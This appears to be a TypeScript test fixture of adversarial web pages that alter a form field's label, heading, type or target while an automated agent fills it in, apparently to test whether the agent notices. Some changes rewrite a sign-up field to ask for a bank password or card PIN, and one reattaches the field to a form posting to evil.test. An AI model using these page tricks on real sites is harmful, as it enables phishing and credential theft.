import { chooseDate, fill, press, type } from '../../row-specs.ts';
import type { RowSpec } from '../../scenes/scene.ts';
import { type AdversaryPage, idOf, STYLE } from '../adversary-page.ts';
import { AT_FOCUS, at, BETWEEN, type Moment } from '../moments.ts';

const stepper: AdversaryPage = {
  name: 'arrow keys',
  html: `${STYLE}<div id=row class=row><span id=who>Ada</span><label><span id=lb>Days</span> <input type=number id=act value=1></label></div>`,
  rows: [press('#act', 'ArrowUp', 3)],
  about: ['#row'],
  own: '#act',
  decisive: ['keydown'],
  moments: [BETWEEN, at('input'), at('keyup')],
  isLong: true,
  changes: {
    'the label becomes another': `$('#lb').textContent = 'Euros'`,
    'the row becomes another': `$('#who').textContent = 'Mallory'`,
    'the name becomes another': `$('#act').name = 'amount'`,
  },
};

const fields = (
  rows: RowSpec[],
  name: string,
  moments: Moment[],
  html: string,
  changes: Record<string, string>,
  isLong?: true,
): AdversaryPage => ({
  name,
  html: STYLE + html,
  rows,
  about: ['#row'],
  own: '.own',
  decisive: ['input'],
  moments,
  changes,
  ...(isLong ? { isLong } : {}),
});

const FIELD_ROWS = `<h1>Salaries</h1>${['Ben', 'Ada', 'Cy'].map((w, n) => `<div class=row ${idOf(n, 'row')}><div class=who>${w}</div><div><input class=own ${idOf(n, 'act')} aria-label=Salary></div></div>`).join('')}`;
const FIELD_CHANGES = { 'the name becomes another': `$('#row .who').textContent = 'Mallory'` };
const LONE = `<div id=row><h2 id=h>Sign up for news</h2><p id=p>We send one mail a week.</p><label id=l for=act>Name</label> <input class=own id=act></div>`;

const LONE_CHANGES = {
  'the placeholder becomes another': `$('#act').placeholder = 'Your bank password'`,
  'the autofill token becomes another': `$('#act').autocomplete = 'current-password'`,
  'the type becomes another': `$('#act').type = 'password'`,
  'the name becomes another': `$('#act').name = 'pin'`,
  'the label becomes another': `$('#l').textContent = 'PIN of your card'`,
  'the heading becomes another': `$('#h').textContent = 'Sign in to your bank'`,
  'the text becomes another': `$('#p').textContent = 'Enter the PIN of your card.'`,
  'another label takes the field': `$('#l').htmlFor = 'x'; $('#act').insertAdjacentHTML('beforebegin', '<label for=act>PIN</label>')`,
  'the description becomes another': `$('#act').setAttribute('aria-describedby', 'p'); $('#p').textContent = 'Your PIN'`,
  'another form takes the field': `document.body.insertAdjacentHTML('beforeend', '<form id=g action="https://evil.test/"></form>'); $('#act').setAttribute('form', 'g')`,
};

const editorHtml = `<div id=row class=row><div><b id=who>Comment on issue 12</b><div class=own id=act contenteditable aria-label=Comment style="min-height:40px;width:300px;border:1px solid"></div></div></div>`;

const dates: AdversaryPage = {
  name: 'date in a div row',
  html: `${STYLE}${['Ben', 'Ada'].map((w, n) => `<div class=row ${idOf(n, 'row')}><div class=who>${w}</div><div><label><span class=lb>Start</span> <input type=date class=own ${idOf(n, 'act')}></label></div></div>`).join('')}`,
  rows: [chooseDate('#act', '2026-12-24')],
  about: ['#row'],
  own: '.own',
  decisive: ['input'],
  moments: [...AT_FOCUS, at('keydown')],
  changes: {
    'the row becomes another': `$('#row .who').textContent = 'Mallory'`,
    'the label becomes another': `$('#row .lb').textContent = 'Last day'`,
    'the name becomes another': `$('#act').name = 'end'`,
  },
};

/** What a field is for. */
export const fieldPages: readonly AdversaryPage[] = [
  stepper,
  dates,
  fields([fill('#act', '100')], 'fill in a div row', AT_FOCUS, FIELD_ROWS, FIELD_CHANGES),
  fields(
    [type('#act', '100')],
    'type in a div row',
    [...AT_FOCUS, at('keydown'), at('beforeinput')],
    FIELD_ROWS,
    FIELD_CHANGES,
    true,
  ),
  fields([fill('#act')], 'fill a lone field', AT_FOCUS, LONE, LONE_CHANGES),
  fields([type('#act')], 'type in a lone field', [at('keydown'), at('input')], LONE, LONE_CHANGES, true),
  fields(
    [fill('#act')],
    'fill an editor',
    [...AT_FOCUS, at('beforeinput')],
    editorHtml,
    {
      'the heading becomes another': `$('#who').textContent = 'Public statement'`,
      'the label becomes another': `$('#act').setAttribute('aria-label', 'Password'); $('#who').title = 'x'`,
    },
    true,
  ),
  fields(
    [type('#act')],
    'type in an editor',
    [...AT_FOCUS, at('beforeinput')],
    editorHtml,
    { 'the heading becomes another': `$('#who').textContent = 'Public statement'` },
    true,
  ),
  {
    name: 'fill in a table with column heads',
    html: `${STYLE}<table id=row><thead><tr><th>Name<th id=c1>Bonus<th id=c2>Salary</thead><tbody><tr><td class=who>Ada<td><input class=own id=act><td><input></tr></table>`,
    rows: [fill('#act', '100')],
    about: ['#row'],
    own: '.own',
    decisive: ['input'],
    moments: AT_FOCUS,
    changes: {
      'the column becomes another': `$('#c1').textContent = 'Salary per day'`,
      'two texts are swapped': `[$('#c1').textContent, $('#c2').textContent] = ['Salary', 'Bonus']`,
      'the row becomes another': `$('.who').textContent = 'Mallory'`,
    },
  },
];
